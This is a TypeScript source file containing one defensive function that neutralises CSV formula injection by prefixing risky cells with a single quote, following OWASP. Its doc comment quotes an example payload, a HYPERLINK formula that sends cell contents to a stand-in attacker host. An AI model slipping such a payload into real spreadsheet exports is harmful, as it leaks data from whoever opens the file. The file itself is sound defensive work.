/**
 * CSV formula injection (OWASP "CSV Injection"): a spreadsheet that opens a CSV reads a cell
 * starting with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a record
 * summary like `=HYPERLINK("https://evil.example/?"&A1)` would run in the reader's
 * spreadsheet. OWASP's remedy: prefix such a cell with a single quote, which spreadsheets
 * show as text. Applied to a cell's value before RFC 4180 quoting. Pure.
 */
const FORMULA_TRIGGERS: readonly string[] = ['=', '+', '-', '@', '\t', '\r'];

/** `value` with a `'` in front when a spreadsheet would read it as a formula; otherwise `value`. */
export const neutraliseCsvCell = (value: string): string =>
  FORMULA_TRIGGERS.some((t) => value.startsWith(t)) ? `'${value}` : value;
